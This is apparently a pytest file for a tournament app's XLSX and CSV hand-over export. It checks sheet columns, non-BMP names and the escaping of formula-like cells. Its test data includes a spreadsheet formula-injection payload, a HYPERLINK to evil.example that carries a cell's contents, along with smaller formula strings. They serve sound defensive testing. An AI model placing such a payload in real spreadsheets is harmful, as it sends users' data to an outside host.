"""The hand-over at the end of an event (issue 52, item 10; tournaments/exchange/exports.py): every sheet
and column of the XLSX workbook and the CSV files, a name no spreadsheet may mangle (a character
beyond the BMP), and cells a spreadsheet would run as formulas written as text in both formats."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import load_workbook

from games import services as game_services
from games.models import GameResult
from tests.factories import UserFactory
from tests.pages.helpers import draw_round, play_table
from tournaments.exchange import exports
from tournaments.services.entries import entry_check_in, entry_register
from tournaments.services.events import event_create, event_prizes_set, event_publish
from tournaments.services.penalties import penalty_add
from tournaments.services.players import player_create
from tournaments.services.teams import team_register
from tournaments.standings import standings_recompute

pytestmark = pytest.mark.django_db

TRICKY = "𠮷野·王小二"  # 𠮷 is outside the BMP (four bytes in UTF-8, a surrogate pair in UTF-16)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HEADERS = {
    "entries": ["#", "name", "player number", "club", "status", "late entry", "first round",
                "left after round", "checked in"],
    "seating": ["round", "stage", "table", "seat (1–6号位)", "side (联邦)", "player",
                "player number", "club"],
    "byes": ["round", "name", "points"],
    "results": ["round", "table", "game", "status", "current version", "versions", "kind",
                "red (红方)", "points of red (红方)", "black (黑方)", "points of black (黑方)",
                "void (流局)", "头科", "大落", "place of seat 1", "place of seat 2",
                "place of seat 3", "place of seat 4", "place of seat 5", "place of seat 6",
                "played live", "confirmed by", "confirmed at"],
    "result-versions": ["round", "table", "game", "version", "kind", "points of red (红方)",
                        "points of black (黑方)", "submitted by", "submitted at", "reason",
                        "after round drawn"],
    "penalties": ["round", "table", "game", "entry", "player", "kind", "points deducted",
                  "reason", "given by", "at"],
    "standings": ["place", "name", "player number", "club", "points", "games won",
                  "头科 count", "opponents' points", "head-to-head", "games played", "byes",
                  "penalty points", "after round", "prize"],
}


@pytest.fixture
def event():
    """13 players (two tables and a bye a round), one named :data:`TRICKY` and one
    :data:`HOSTILE`; round 1 played and confirmed, one of its results corrected by the referee,
    a penalty; round 2 with one table's games submitted, not confirmed; prizes for places
    1 and 2–3 (the second a formula too)."""
    referee = UserFactory(username="export-referee")
    player_create(name="裁判 孙", user=referee)  # the referee is a person with a name
    event = event_create(name="青岛 hand-over", slug="hand-over", games_per_match=2,
                                  rounds_planned=2, bye_points=2)
    event.referees.add(referee)
    names = [TRICKY, HOSTILE, "-3 号", "张伟", "王芳", "李娜", "刘洋", "陈静", "杨磊", "赵敏",
             "黄勇", "周杰", "吴霞"]
    for i, name in enumerate(names):
        player = player_create(name=name, number=501 + i,
                                        club="+俱乐部" if i == 0 else "青岛")
        entry_check_in(entry=entry_register(event=event, player=player))
    event_publish(event=event)
    for table in draw_round(event).tables.all():
        play_table(table=table, referee=referee)
    corrected = GameResult.objects.get(table__round__number=1, table__number=1, number=2)
    game_services.result_correct(
        result=corrected, reason="顺序抄错", by=referee, as_referee=True,
        sheet={"order": [5, 4, 3, 2, 1, 0], "kaidian": [True] * 6,
               "leader": corrected.engine_result.get("leader", 0)})
    hostile_entry = event.entries.get(player__name=HOSTILE)
    penalty_add(event=event, entry=hostile_entry, kind="point_deduction", points=3,
                         reason="=1+1 慢打", by=referee)
    play_table(table=draw_round(event).tables.get(number=1), referee=referee, confirm=False)
    standings_recompute(event_id=event.pk, force=True)
    event_prizes_set(event=event, prizes=[(2, 3, "=一等奖"), (1, 1, "冠军")])
    event.refresh_from_db()
    return event


def _number(cell: str) -> bool:
    return cell.lstrip("-").isdigit()


def _csv_rows(sheet) -> list[list[str]]:
    raw = exports.csv_bytes(sheet.header, sheet.rows)
    assert raw.startswith(b"\xef\xbb\xbf")  # (Excel reads the Chinese names right)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_every_sheet_and_column_of_the_hand_over(event):
    with translation.override("en"):
        sheets = {s.key: s for s in exports.event_sheets(event)}

    assert list(sheets) == list(exports.SHEET_KEYS)
    assert {key: s.header for key, s in sheets.items()} == HEADERS
    for sheet in sheets.values():
        assert all(len(row) == len(sheet.header) for row in sheet.rows), sheet.key

    def column(key, name):
        return [row[HEADERS[key].index(name)] for row in sheets[key].rows]

    # entries: every one, numbers and clubs, all checked in
    assert len(sheets["entries"].rows) == 13 and TRICKY in column("entries", "name")
    assert set(column("entries", "status")) == {"checked in"}
    assert column("entries", "player number") == list(range(501, 514))
    # seating: both rounds, 1–6号位, 红方 / 黑方
    assert len(sheets["seating"].rows) == 24
    assert sorted(set(column("seating", "seat (1–6号位)"))) == [1, 2, 3, 4, 5, 6]
    assert set(column("seating", "side (联邦)")) == {"red (红方)", "black (黑方)"}
    assert set(column("seating", "round")) == {1, 2}
    assert sorted(column("byes", "round")) == [1, 2]
    # results: round 1's four confirmed, one in its second version; round 2's two awaiting
    results = sheets["results"].rows
    assert len(results) == 6
    by_game = {(r[0], r[1], r[2]): r for r in results}
    fixed = by_game[(1, 1, 2)]
    h = HEADERS["results"]
    assert fixed[h.index("current version")] == 2 and fixed[h.index("versions")] == 2
    assert fixed[h.index("status")] == "confirmed"
    assert fixed[h.index("confirmed by")] == "裁判 孙"  # the person, not the login
    assert [fixed[h.index(f"place of seat {n}")] for n in range(1, 7)] == [6, 5, 4, 3, 2, 1]
    assert fixed[h.index("头科")] and fixed[h.index("大落")]
    assert fixed[h.index("kind")] == "result sheet" and fixed[h.index("played live")] == ""
    assert [r[h.index("status")] for r in results if r[0] == 2] == [
        "submitted, awaiting confirmation"] * 2
    assert all("、" not in r[h.index("red (红方)")] for r in results)  # (", " in English)
    assert all(len(r[h.index("red (红方)")].split(", ")) == 3 for r in results)
    # every version, the correction with its reason and its referee
    versions = sheets["result-versions"].rows
    assert len(versions) == 7
    correction = [v for v in versions if v[3] == 2]
    assert len(correction) == 1 and correction[0][9] == "顺序抄错"
    assert correction[0][7] == "裁判 孙"
    # penalties and standings, with the prizes by place
    (penalty,) = sheets["penalties"].rows
    assert penalty[3] == HOSTILE and penalty[6] == 3 and penalty[8] == "裁判 孙"
    standings = sheets["standings"].rows
    assert len(standings) == 13
    prizes = {row[0]: row[-1] for row in standings}
    assert prizes[1] == "冠军" and prizes[2] == prizes[3] == "=一等奖"
    assert all(prizes[rank] == "" for rank in prizes if rank > 3)
    hostile = next(row for row in standings if row[1] == HOSTILE)
    assert hostile[HEADERS["standings"].index("penalty points")] == 3


def test_csv_and_xlsx_write_formulas_as_text_and_keep_every_name(event):
    with translation.override("en"):
        sheets = exports.event_sheets(event)
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(sheets)))

    # one sheet each, named as the sheets are
    assert book.sheetnames == [s.title for s in sheets]
    for sheet in sheets:
        csv_rows = _csv_rows(sheet)
        xlsx_rows = [[("" if v is None else v) for v in row]
                     for row in book[sheet.title].iter_rows(values_only=True)]
        # the same cells in both files (CSV holds them as text)
        assert [[str(v) for v in row] for row in xlsx_rows] == csv_rows, sheet.key
        for row in book[sheet.title].iter_rows():
            assert all(cell.data_type != "f" for cell in row), (sheet.key, row)
        for row in csv_rows[1:]:  # (a number such as -14 points is no formula)
            assert not any(cell.startswith(exports.FORMULA_STARTS) and not _number(cell)
                           for cell in row), row
    text = {s.key: _csv_rows(s) for s in sheets}
    names = [row[1] for row in text["entries"][1:]]
    assert TRICKY in names  # 𠮷 survives, in CSV and (above) in XLSX
    assert "'" + HOSTILE in names and "'-3 号" in names
    assert "'+俱乐部" in [row[3] for row in text["entries"][1:]]
    assert text["penalties"][1][7] == "'=1+1 慢打"
    assert "'=一等奖" in [row[-1] for row in text["standings"][1:]]
    # numbers stay numbers a spreadsheet adds up
    standings = book[next(s.title for s in sheets if s.key == "standings")]
    assert all(isinstance(row[0], int) for row in standings.iter_rows(min_row=2,
                                                                     values_only=True))


def test_the_zip_holds_a_csv_each():
    sheets = [exports.Sheet("entries", "entries", ["name"], [[HOSTILE]]),
              exports.Sheet("standings", "standings", ["place"], [[1]])]
    archive = zipfile.ZipFile(io.BytesIO(exports.csv_zip(sheets, prefix="cup")))
    assert archive.namelist() == ["cup-entries.csv", "cup-standings.csv"]
    assert archive.read("cup-entries.csv").decode("utf-8-sig").splitlines()[1] == \
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\""


def test_a_control_character_cannot_hide_a_formula_from_the_workbook():
    sheet = exports.Sheet("entries", "entries", ["name"], [["\x01=1+1"], ["a\x00b"], [-3]])
    page = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet])))["entries"]
    cells = [row[0] for row in page.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["'=1+1", "ab", -3]
    assert all(c.data_type != "f" for c in cells)


def test_the_headings_are_in_the_organizers_language(event):
    with translation.override("zh-hans"):
        sheets = {s.key: s for s in exports.event_sheets(event, keys=["standings", "seating"])}
    assert list(sheets) == ["seating", "standings"]
    assert sheets["standings"].header[0] == "名次" and sheets["standings"].header[-1] == "奖项"
    assert "红方" in {row[4] for row in sheets["seating"].rows}
    assert sheets["seating"].title == "座位"


def test_a_team_events_sheets_name_the_teams_and_their_players():
    # given a team event (团体赛) of two 联邦 teams, one named as a formula, its match played
    referee = UserFactory(username="team-export-referee")
    event = event_create(name="团体赛", slug="team-hand-over", format="team",
                                  games_per_match=1, rounds_planned=1)
    for name, players in (("=红队", ["甲一", "甲二", "甲三"]), ("黑队", ["乙一", "乙二", TRICKY])):
        entry = team_register(event=event, name=name, players=[
            player_create(name=p) for p in players])
        entry_check_in(entry=entry)
    play_table(table=draw_round(event).tables.get(), referee=referee)
    standings_recompute(event_id=event.pk, force=True)

    # when
    with translation.override("en"):
        sheets = {s.key: s for s in exports.event_sheets(event)}

    # then the entries are the teams with their players, the sides the teams' names
    assert sheets["entries"].header[:3] == ["#", "team", "players"]
    assert sorted(row[1:3] for row in sheets["entries"].rows) == [
        ["=红队", "甲一, 甲二, 甲三"], ["黑队", f"乙一, 乙二, {TRICKY}"]]
    table = event.rounds.get().tables.get()
    sides = {table.team_a.name, table.team_b.name}
    assert {row[4] for row in sheets["seating"].rows} == sides
    (result,) = sheets["results"].rows
    assert {result[7], result[9]} == sides
    # (a team event's tie-breaks start with the match points)
    assert sheets["standings"].header[:4] == ["place", "team", "match points", "points"]
    assert "player number" not in sheets["standings"].header
    assert {row[1] for row in sheets["standings"].rows} == sides
    assert "'=红队" in [row[1] for row in _csv_rows(sheets["standings"])[1:]]
